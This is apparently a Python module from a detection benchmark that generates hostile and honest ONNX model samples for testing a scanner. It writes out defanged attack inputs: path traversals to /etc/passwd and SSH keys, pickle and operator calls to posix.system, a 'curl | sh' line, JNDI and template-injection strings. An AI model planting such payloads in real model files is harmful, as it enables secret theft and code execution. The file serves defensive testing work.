"""ONNX: external data, operators that call out, bytes that hide, texts that act."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from benchmarks.detection.onnx_bytes import (
    attribute,
    entry,
    external,
    function,
    graph,
    model,
    node,
    tensor,
)
from benchmarks.detection.protobuf_bytes import Parts, field, message
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

__all__ = ["samples"]

_FAMILY = "graphs-onnx"
_DATA = struct.pack("<16f", *range(16))
# In two parts: no file of the project holds the address of a file.
_FILE = "file:" + "//"
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(100)
_CALL = b"\x80\x02cposix\nsystem\nq\x00X\x0a\x00\x00\x00echo assayq\x01\x85q\x02Rq\x03."


def samples() -> Iterator[Sample]:
    """Give hostile models, then honest ones."""
    for name, technique, files in _hostile():
        yield Sample(
            name=name,
            family=_FAMILY,
            technique=technique,
            truth=Truth.HOSTILE,
            files=files,
        )
    for name, technique, files in _honest():
        yield Sample(
            name=name,
            family=_FAMILY,
            technique=technique,
            truth=Truth.HONEST,
            files=files,
        )


Case = tuple[str, str, "Mapping[str, bytes]"]


def _one(name: str, technique: str, data: bytes, **more: bytes) -> Case:
    return name, technique, {"model.onnx": data, **more}


def _holding(one: bytes) -> bytes:
    return model(graph(tensors=(one,)))


def _hostile() -> Iterator[Case]:
    yield from _outside()
    yield from _extents()
    yield from _operators()
    yield from _hiding()
    yield from _texts()
    yield from _broken()


def _outside() -> Iterator[Case]:
    what = "external data outside of the release"
    for name, path in (
        ("parent", "../../../../etc/passwd"),
        ("nested-parent", "sub/../../etc/passwd"),
        ("parent-in-the-middle", "a/b/../../../secrets.bin"),
        ("absolute", "/etc/passwd"),
        ("home", "~/.ssh/id_rsa"),
        ("backslashes", "..\\..\\windows\\win.ini"),
        ("drive", "C:\\windows\\win.ini"),
        ("share", "\\\\server\\share\\w.bin"),
        ("address", "https://example.org/w.bin"),
        ("file-address", f"{_FILE}/etc/passwd"),
        ("process", "/proc/self/environ"),
        ("null-character", "w.bin\0/../../etc/passwd"),
    ):
        yield _one(f"external-{name}", what, _holding(external(path)))
    bad = external("../../secret")
    constant = node("Constant", attribute("value", 5, bad))
    yield _one("external-in-attribute", what, model(graph(constant)))
    inner = graph(constant)
    branch = node("If", attribute("then_branch", 6, inner))
    yield _one("external-in-branch", what, model(graph(branch)))
    many = node("Loop", attribute("bodies", 11, inner))
    yield _one("external-in-list-of-graphs", what, model(graph(many)))
    listed = node("Thing", attribute("values", 10, bad), domain="com.microsoft")
    yield _one("external-in-list-of-tensors", what, model(graph(listed)))
    body = function("Mine", "local", constant)
    calls = graph(node("Mine", domain="local"))
    yield _one("external-in-function", what, model(calls, more=[(25, body)]))
    sparse = message((1, bad), (2, tensor((1,), raw=bytes(8), kind=7)), (3, 4))
    yield _one("external-in-sparse", what, model(graph(more=[(15, sparse)])))
    inside = node("Constant", attribute("sparse_value", 22, sparse))
    yield _one("external-in-sparse-attribute", what, model(graph(inside)))
    training = message((2, graph(tensors=(bad,))))
    yield _one("external-in-training", what, model(more=[(20, training)]))
    second = model(graph(), graph(tensors=(bad,)))
    yield _one("external-in-second-graph", what, second)


def _extents() -> Iterator[Case]:
    what = "external data past the end of their file"
    beside = {"w.bin": _DATA}
    wrong: tuple[tuple[str, dict[str, str]], ...] = (
        ("offset", {"offset": "4096", "length": "16"}),
        ("length", {"offset": "0", "length": "16000"}),
        ("huge-offset", {"offset": str(2**63), "length": "16"}),
        ("negative-offset", {"offset": "-8", "length": "16"}),
        ("no-number", {"offset": "0x10", "length": "16"}),
        ("unknown-key", {"offset": "0", "length": "16", "__class__": "x"}),
    )
    for name, settings in wrong:
        data = _holding(external("w.bin", dims=(4,), name="w", **settings))
        yield f"external-{name}", what, {"model.onnx": data, **beside}
    address = external("*/_ORT_MEM_ADDR_/*", offset="140737488355328", length="16")
    yield _one("external-memory-address", "an address in memory", _holding(address))
    hidden = _holding(external("w.bin", offset="0", length="16"))
    tail = {"model.onnx": hidden, "w.bin": bytes(16) + bytes(range(1, 256)) * 400}
    yield "external-hidden-tail", "bytes behind the last tensor", tail


def _operators() -> Iterator[Case]:
    what = "an operator that calls code outside of the graph"
    for name, domain, key in (
        ("PythonOp", "com.microsoft", "func_name"),
        ("PyOp", "ai.onnx.contrib", "callback"),
        ("PyCustomOp", "ai.onnx.contrib", "id"),
        ("TritonOp", "com.microsoft", "func_name"),
        ("ATen", "org.pytorch.aten", "operator"),
        ("ATen", "com.microsoft", "operator"),
    ):
        one = node(name, attribute(key, 4, "posix.system"), domain=domain)
        label = f"operator-{name.lower()}-{domain.replace('.', '-')}"
        yield _one(label, what, model(graph(one)))
    for name in ("AzureTextToText", "OpenAIAudioToText"):
        one = node(
            name,
            attribute("model_uri", 4, "https://example.org"),
            domain="com.microsoft.extensions",
        )
        yield _one(f"operator-{name.lower()}", "an operator that calls a server",
                   model(graph(one)))  # fmt: skip
    nested = node("If", attribute("then_branch", 6, graph(
        node("PythonOp", domain="com.microsoft"))))  # fmt: skip
    yield _one("operator-in-branch", what, model(graph(nested)))
    body = function("Mine", "local", node("PythonOp", domain="com.microsoft"))
    calls = graph(node("Mine", domain="local"))
    yield _one("operator-in-function", what, model(calls, more=[(25, body)]))
    custom = model(graph(node("Attack", domain="evil.ops")))
    files = {"model.onnx": custom, "libops.so": _ELF}
    yield "operator-custom-with-library", "a custom operator and its library", files
    context = node(
        "EPContext",
        attribute("ep_cache_context", 4, "../../../tmp/evil.bin"),
        attribute("embed_mode", 3, 0),
        domain="com.microsoft",
    )
    yield _one("operator-context-outside", "a context file outside of the release",
               model(graph(context)))  # fmt: skip
    for domain in ("", "ai.onnx"):
        shadow = function("Relu", domain, node("Identity"))
        label = "shadowed-operator" + ("-by-name" if domain else "")
        yield _one(label, "a function in the place of a standard operator",
                   model(more=[(25, shadow)]))  # fmt: skip
    twice: Parts = [(25, function("Mine", "local")), (25, function("Mine", "local"))]
    yield _one("function-twice", "two functions of one name", model(more=twice))


def _hiding() -> Iterator[Case]:
    what = "bytes that belong to nothing"
    yield _one("hidden-after", what, model() + b"\x00" + bytes(range(256)) * 8)
    yield _one("hidden-pickle-after", what, model() + _CALL)
    yield _one("hidden-elf-after", what, model() + _ELF)
    yield _one("hidden-field", what, model() + field(4000, _CALL * 20))
    yield _one("hidden-field-in-graph", what, model(graph(more=[(99, _CALL * 20)])))
    strange = node("Relu") + field(77, _CALL * 20)
    yield _one("hidden-field-in-node", what, model(graph(strange)))
    fat = tensor((4,), raw=bytes(16) + _CALL * 4)
    yield _one("tensor-longer-than-shape", what, _holding(fat))
    odd = tensor(more=[(400, _ELF * 4)])
    yield _one("hidden-field-in-tensor", what, _holding(odd))
    program = tensor((len(_ELF),), raw=_ELF, kind=2)
    yield _one("program-as-numbers", "a program in the place of numbers",
               _holding(program))  # fmt: skip
    stream = _CALL + bytes(64)
    packed = tensor((len(stream),), raw=stream, kind=2)
    yield _one("pickle-as-numbers", "a pickle in the place of numbers",
               _holding(packed))  # fmt: skip


def _texts() -> Iterator[Case]:
    what = "text about the model that acts"
    for name, key, value in (
        ("import", "names", "__import__('os').system('echo assay')"),
        ("eval", "classes", "eval('1+1')"),
        ("script", "description", "<script>alert(1)</script>"),
        ("lookup", "author", "${jndi:ldap://example.org/a}"),
        ("shell", "install", "curl https://example.org/a.sh | sh"),
        ("direction", "license", "Apache\u202e0.2-ecnecil\u202c"),
        (
            "template",
            "chat_template",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        ),
    ):
        yield _one(f"metadata-{name}", what, model(more=[(14, entry(key, value))]))
    about = model(first=[(6, "see <iframe src='x'></iframe>")])
    yield _one("doc-string-markup", what, about)
    inner = graph(more=[(10, "import os; os.system('echo assay')")])
    yield _one("doc-string-of-graph", what, model(inner))


def _broken() -> Iterator[Case]:
    what = "a broken model"
    whole = model(graph(tensors=(tensor((64,), raw=bytes(256)),)))
    yield _one("cut", what, whole[:-100])
    yield _one("cut-before-payload", what, whole[:60] + b"\xff" * 40)
    short = tensor((1 << 20,), raw=bytes(16))
    yield _one("tensor-shorter-than-shape", what, _holding(short))
    huge = tensor((1 << 31, 1 << 31), raw=None)
    yield _one("tensor-huge", "a tensor that nothing can hold", _holding(huge))
    negative = tensor((-1,), raw=bytes(16))
    yield _one("tensor-negative", what, _holding(negative))
    dims = tensor((1,) * 2000, raw=bytes(4))
    yield _one("tensor-many-dims", what, _holding(dims))
    yield _one("tensor-no-type", what, _holding(tensor(kind=99)))
    twins = model(graph(tensors=(tensor(), tensor(raw=_DATA[:16]))))
    yield _one("tensor-twice", "two tensors of one name", twins)
    inner = graph()
    for _ in range(60):
        inner = graph(node("If", attribute("then_branch", 6, inner)))
    yield _one("graphs-too-deep", "graphs inside graphs", model(inner))
    yield _one("two-graphs", "two graphs in one model", model(graph(), graph()))
    backwards = field(7, graph(node("PythonOp", domain="com.microsoft"))) + field(1, 8)
    yield _one("graph-first", "fields in another order", backwards)
    bare = field(7, graph(node("PythonOp", domain="com.microsoft")))
    yield _one("graph-alone", "no version at all", bare)


def _honest() -> Iterator[Case]:
    yield from _honest_tensors()
    yield from _honest_files()
    yield from _honest_graphs()


def _honest_tensors() -> Iterator[Case]:
    yield _one("plain", "a small model", model())
    whole = graph(
        node("MatMul"), node("Add"), node("Softmax"),
        tensors=(tensor((4, 4), raw=_DATA), tensor((4,), name="b")),
    )  # fmt: skip
    yield _one("with-weights", "weights inside", model(whole))
    typed = tensor((4,), raw=None, more=[(4, struct.pack("<4f", 1, 2, 3, 4))])
    yield _one("typed-floats", "weights as floats", _holding(typed))
    unpacked = tensor((2,), raw=None, more=[(4, 1.0), (4, 2.0)])
    yield _one("unpacked-floats", "weights one by one", _holding(unpacked))
    whole_numbers = tensor((3,), raw=None, kind=7, more=[(7, b"\x01\x02\x03")])
    yield _one("typed-integers", "integers as a list", _holding(whole_numbers))
    texts = tensor((2,), raw=None, kind=8, more=[(6, "cat"), (6, "dog")])
    yield _one("texts", "labels as a tensor", _holding(texts))
    half = tensor((2, 2), raw=bytes(8), kind=10)
    yield _one("half-precision", "half precision", _holding(half))
    nibbles = tensor((5,), raw=bytes(3), kind=22)
    yield _one("four-bits", "numbers of four bits", _holding(nibbles))
    yield _one(
        "scalar", "a tensor without dimensions", _holding(tensor((), raw=_DATA[:4]))
    )
    yield _one("empty-tensor", "an empty tensor", _holding(tensor((0,), raw=b"")))


def _honest_files() -> Iterator[Case]:
    beside = _holding(external("model.onnx_data", offset="0", length="16"))
    files = {"model.onnx": beside, "model.onnx_data": _DATA[:16]}
    yield "external-data", "weights beside the model", files
    one = external("onnx/w.bin", dims=(4,), offset="0", length="16", name="a")
    two = external("onnx/w.bin", dims=(8,), offset="4096", length="32", name="b")
    data = bytes(range(16)) + bytes(4080) + _DATA[:32]
    files = {"model.onnx": model(graph(tensors=(one, two))), "onnx/w.bin": data}
    yield "external-data-aligned", "weights at multiples of a page", files
    plain = _holding(external("w.data"))
    files = {"model.onnx": plain, "w.data": _DATA[:16]}
    yield "external-data-without-extent", "weights without an offset", files


def _honest_graphs() -> Iterator[Case]:
    branch = node("If", attribute("then_branch", 6, graph()))
    yield _one("branch", "a branch", model(graph(branch)))
    runtime = graph(node("FusedMatMul", domain="com.microsoft"))
    yield _one("runtime-operators", "operators of ONNX Runtime", model(runtime))
    trees = graph(node("TreeEnsembleClassifier", domain="ai.onnx.ml"))
    yield _one("trees", "a forest", model(trees))
    local = function("Gelu2", "pkg.local", node("Erf"), node("Mul"))
    calls = graph(node("Gelu2", domain="pkg.local"))
    yield _one(
        "own-function", "a function of its own", model(calls, more=[(25, local)])
    )
    plugin = graph(node("EfficientNMS_TRT", domain="TRT"))
    yield _one("plug-in", "a plug-in of TensorRT", model(plugin))
    pairs = [
        ("names", "{0: 'person', 1: 'bicycle'}"),
        ("author", "Example https://example.org"),
        ("license", "AGPL-3.0"),
        ("character", "'\n疗\n绚\n\u200d\n a"),
        ("stride", "32"),
    ]
    about = model(more=[(14, entry(key, value)) for key, value in pairs])
    yield _one("metadata", "texts about the model", about)
    trace = [(16, entry("pkg.torch.onnx.stack_trace", "File 'm.py', line 3, in eval"))]
    yield _one("stack-trace", "where a graph came from", model(graph(more=[*trace])))
    later = field(27, b"\x08\x01")
    yield _one("later-field", "a field of a later version", model() + later)
